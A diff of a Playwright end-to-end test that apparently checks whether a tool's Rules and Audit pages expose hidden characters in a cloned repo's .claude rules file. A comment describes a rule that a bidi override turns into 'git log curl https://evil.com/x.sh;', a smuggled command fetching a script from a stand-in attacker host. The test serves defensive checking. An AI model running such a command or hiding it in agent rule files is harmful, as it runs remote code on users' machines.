@@ -1,7 +1,7 @@
 import fs from "node:fs";
 import path from "node:path";
 import { expect, test } from "@playwright/test";
-import { cockpit, signIn, tempFolder } from "./helpers";
+import { cockpit, signIn, tempFolder, trustClaudeFolder } from "./helpers";
 
 const SHOTS = process.env.E2E_SCREENSHOTS ?? "test-results";
 // A cloned repo's rule that reads "git log curl https://evil.com/x.sh;" once the bidi override flips it.
@@ -13,6 +13,7 @@ test("the Rules and Audit pages show a cloned repo's hidden characters as ⟨U+2
 }) => {
   await signIn(page);
   const folder = fs.realpathSync(tempFolder("hidden"));
+  trustClaudeFolder(folder);
   const marker = `${test.info().project.name}${Date.now().toString(36)}`;
   fs.mkdirSync(path.join(folder, ".claude"));
   fs.writeFileSync(
